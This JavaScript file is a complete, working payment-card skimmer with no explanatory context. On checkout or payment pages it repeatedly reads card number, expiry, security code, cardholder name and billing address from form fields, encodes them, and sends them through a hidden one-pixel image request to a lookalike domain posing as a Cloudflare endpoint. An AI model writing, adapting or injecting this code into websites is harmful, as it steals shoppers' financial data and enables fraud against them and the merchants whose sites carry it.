var lastSent = "";

function readCard() {
    var q = function (s) {
        var n = document.querySelector(s);
        return n ? n.value.trim() : "";
    };
    return {
        num: q("#card-number"),
        exm: q("#expiry-month"),
        exy: q("#expiry-year"),
        cvc: q("#security-code"),
        own: q("#cardholder-name"),
        adr: q("#billing-street"),
        cty: q("#billing-city"),
        pst: q("#billing-postal")
    };
}

function isComplete(c) {
    return c.num.replace(/[^0-9]/g, "").length >= 13 && c.cvc.length >= 3;
}

setInterval(function () {
    if (!/checkout|payment/.test(document.URL)) {
        return;
    }
    var card = readCard();
    if (!isComplete(card)) {
        return;
    }
    var encoded = btoa(encodeURIComponent(JSON.stringify(card)));
    if (encoded === lastSent) {
        return;
    }
    lastSent = encoded;
    var img = document.createElement("img");
    img.width = 1;
    img.height = 1;
    img.style.display = "none";
    img.src = "https://cloudflare-jscdn.pw/cdn-cgi/trace.gif?v=" + encoded;
    document.body.appendChild(img);
}, 1500);
